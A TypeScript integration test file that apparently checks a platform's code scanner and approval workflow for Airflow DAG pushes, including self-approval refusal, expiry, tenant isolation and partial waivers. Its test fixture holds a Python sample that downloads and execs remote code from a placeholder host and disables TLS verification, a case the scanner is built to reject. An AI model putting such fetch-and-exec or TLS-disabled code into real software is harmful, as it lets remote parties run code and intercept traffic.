import { GetExecutionHistoryCommand, SendTaskSuccessCommand, SFNClient } from '@aws-sdk/client-sfn';
import { beforeAll, describe, expect, inject, test } from 'vitest';
import * as z from 'zod';
import type { Approval } from '../../functions/approvals/contract.ts';
import { administratorOf, outputOf } from '../../local/deploy.ts';
import { addressesOf } from '../../local/instance-state.ts';
import {
  type ConnectedRepository,
  clientOf,
  connectRepository,
  eventually,
  otherTenant,
  receiptOf,
  runToEnd,
  unique,
} from '../support/cloud.ts';
import { dagSource } from '../support/dags.ts';
import { personLoggedIn } from '../support/person.ts';

const cloud = inject('cloud');
const admin = clientOf(cloud);
const { ports, outputs } = addressesOf(cloud.directory);
const sfn = new SFNClient(administratorOf(ports));

const threats = `import requests


def act():
    exec(requests.get("https://x.example").text)


def fetch():
    return requests.get("https://x.example", verify=False).text
`;
const dagId = unique('waived');

const keyOf = async (person: string, level: 'write' | 'admin') =>
  (await admin.call('keys.create', { name: 'approvals', person, level })).key;

let kim: ReturnType<typeof clientOf>;
let kimAsAdmin: ReturnType<typeof clientOf>;
let connected: ConnectedRepository;
beforeAll(async () => {
  kim = clientOf(cloud, await keyOf('kim@example.com', 'write'));
  kimAsAdmin = clientOf(cloud, await keyOf('Kim@example.com', 'admin'));
  connected = await connectRepository(cloud);
  await connected.clone.write({ 'dags/etl.py': dagSource(dagId, { imports: threats }) });
  const receipt = await receiptOf(cloud, connected.name, (await connected.clone.push('threats')).commit);
  expect(receipt.outcome).toBe('rejected');
});

const ask = (rules: string[], wait = '1h'): Promise<Approval> =>
  kim.call('waivers.request', { repository: connected.name, path: 'etl.py', rules, reason: 'our own server', wait });

const stateOf = async (approval: string) => admin.call('approvals.get', { approval });

const ended = (id: string) =>
  eventually(`the end of ${id}`, 60, async () => {
    const approval = await stateOf(id);
    return approval.effect || approval.state === 'expired' ? approval : undefined;
  });

const Parameters = z.object({ Payload: z.object({ token: z.string() }) });

/** The token that a person finds in the history of the execution, and gives an answer to, as in the AWS console. */
const answerInAws = async ({ id }: Approval, answer: Record<string, unknown>): Promise<void> => {
  const machine = outputOf(outputs, 'DecisionMachineArn');
  const executionArn = `${machine.replace(':stateMachine:', ':execution:')}:${id}-1`;
  const token = await eventually(`the waiting of ${id}`, 10, async () => {
    const { events = [] } = await sfn.send(new GetExecutionHistoryCommand({ executionArn, reverseOrder: true }));
    const asked = events.find((event) => event.taskScheduledEventDetails?.resource === 'invoke.waitForTaskToken');
    const { parameters } = asked?.taskScheduledEventDetails ?? {};
    return parameters === undefined ? undefined : Parameters.parse(JSON.parse(parameters)).Payload.token;
  });
  await sfn.send(new SendTaskSuccessCommand({ taskToken: token, output: JSON.stringify(answer) }));
};

describe('a request', () => {
  test('is not decided by whoever asks: with no key of theirs, nor in chat', async () => {
    const request = await ask(['downloaded-code']);
    expect(request).toMatchObject({
      state: 'pending',
      requestedBy: 'kim@example.com',
      touches: { system: 'automatrix', resource: connected.name },
    });
    expect(request.what).toContain('line 7 downloaded-code');
    const approval = request.id;
    await expect(kim.call('approvals.approve', { approval })).rejects.toThrow(/kim@example.com asked for it/);
    await expect(kimAsAdmin.call('approvals.approve', { approval })).rejects.toThrow(/asked for it/);
    const younger = clientOf(cloud, await keyOf('lee@example.com', 'admin'));
    await expect(younger.call('approvals.approve', { approval })).rejects.toThrow(/younger than the request/);

    const { id: conversation } = await kimAsAdmin.call('conversations.start', {});
    const say = async (text: string) => (await kimAsAdmin.call('chat.send', { conversation, text })).answer;
    expect(await say(`approve ${approval}`)).toMatchObject({ kind: 'confirmation' });
    expect(await say('yes')).toMatchObject({ kind: 'refused', text: expect.stringContaining('asked for it') });
    expect((await stateOf(approval)).state).toBe('pending');

    const navigator = await personLoggedIn(cloud);
    expect((await navigator(['approvals'])).out).toContain(approval);
    const refused = await navigator(['approval', 'approve', approval]);
    expect(refused.err).toContain('our own server');
    expect(refused.err).toContain('add --yes');
    const { out, err } = await navigator(['approval', 'reject', approval, 'not', 'our', 'server', '--yes']);
    expect(out + err).toContain('rejected');
    await expect(admin.call('approvals.approve', { approval })).rejects.toThrow(/was rejected by admin@example.com/);
    expect((await stateOf(approval)).decision).toMatchObject({ reason: 'not our server', via: 'navigator' });
  });

  test('expires, and is nothing to another tenant', async () => {
    const { id: approval } = await ask(['downloaded-code'], '2s');
    const stranger = clientOf(cloud, await otherTenant(cloud));
    await expect(stranger.call('approvals.approve', { approval })).rejects.toThrow(/no request/);
    expect(await ended(approval)).toMatchObject({ state: 'expired' });
    await expect(admin.call('approvals.approve', { approval })).rejects.toThrow(/expired/);
  });

  test('is decided in AWS by another person, with the token that waits there', async () => {
    const request = await ask(['downloaded-code']);
    await answerInAws(request, { decision: 'approve', by: 'kim@example.com' });
    const noted = await eventually('the note', 10, async () => {
      const { note } = await stateOf(request.id);
      return note;
    });
    expect(noted).toContain('kim@example.com asked for it');
    await answerInAws(request, { decision: 'approve', by: 'lee@example.com', reason: 'on call' });
    expect(await ended(request.id)).toMatchObject({
      state: 'approved',
      decision: { by: 'lee@example.com', via: 'aws', reason: 'on call' },
      effect: { state: 'done' },
    });
  });

  test('is approved in part, and the push goes live with who approved it on its receipt', async () => {
    const { id: approval } = await ask(['downloaded-code', 'tls-disabled']);
    const navigator = await personLoggedIn(cloud);
    const edits = ['--edits', '{"rules": ["tls-disabled"]}'];
    const { out, err } = await navigator(['approval', 'approve', approval, ...edits, '--yes']);
    expect(err).toBe('');
    expect(out).toContain('approved: Waive tls-disabled');
    const receipt = await eventually('the receipt of the waived file', 30, async () => {
      const { items } = await admin.call('pushes.list', { repository: connected.name });
      return items.find(({ outcome }) => outcome === 'live');
    });
    expect(receipt.files[0]?.findings).toEqual(
      expect.arrayContaining([
        expect.objectContaining({
          rule: 'tls-disabled',
          severity: 'info',
          waived: 'our own server',
          approved: { by: 'admin@example.com', approval },
        }),
      ]),
    );
    expect((await runToEnd(cloud, dagId)).run.state).toBe('success');
    expect((await navigator(['waiver', 'list', connected.name])).out).toContain('tls-disabled');

    await connected.clone.write({ 'dags/etl.py': dagSource(dagId, { imports: `${threats}\n# changed` }) });
    const changed = await receiptOf(cloud, connected.name, (await connected.clone.push('changed')).commit);
    expect(changed.outcome).toBe('rejected');
    const revoked = await admin.call('waivers.revoke', { repository: connected.name, waiver: approval });
    expect(revoked).toMatchObject({ rules: ['tls-disabled'], revokedBy: 'admin@example.com' });
  });
});

test('a package that is approved gets into Airflow, and what waited for it goes live', async () => {
  const { name, clone } = await connectRepository(cloud);
  const workflow = unique('moo');
  const source = dagSource(workflow, {
    imports: 'import cowsay',
    expression: 'cowsay.get_output_string("cow", "moo")',
  });
  await clone.write({ 'dags/moo.py': source });
  const kept = await receiptOf(cloud, name, (await clone.push('a package that is not there')).commit);
  expect(kept.files).toMatchObject([{ outcome: 'quarantined', findings: [{ rule: 'airflow-import' }] }]);

  const asked = { environment: 'main', reason: 'to cheer people up', wait: '1h' };
  const { id: none } = await kim.call('environments.change', { ...asked, add: ['cowsay==0.0.0'] });
  await admin.call('approvals.approve', { approval: none });
  expect((await ended(none)).effect).toMatchObject({ state: 'failed', message: expect.stringContaining('cowsay') });

  const { id: approval } = await kim.call('environments.change', { ...asked, add: ['cowsay==6.1'] });
  await admin.call('approvals.approve', { approval });
  expect((await ended(approval)).effect).toMatchObject({ state: 'done' });
  const live = await eventually('the workflow to be live', 60, async () => {
    const { items } = await admin.call('pushes.list', { repository: name });
    return items.find(({ outcome }) => outcome === 'live');
  });
  expect(live.files[0]?.findings.map(({ rule }) => rule)).not.toContain('package-missing');
  expect((await runToEnd(cloud, workflow)).log).toContain('moo');
  const { items } = await admin.call('environments.list', {});
  expect(items).toMatchObject([{ name: 'main', requirements: ['cowsay==6.1'] }]);
});
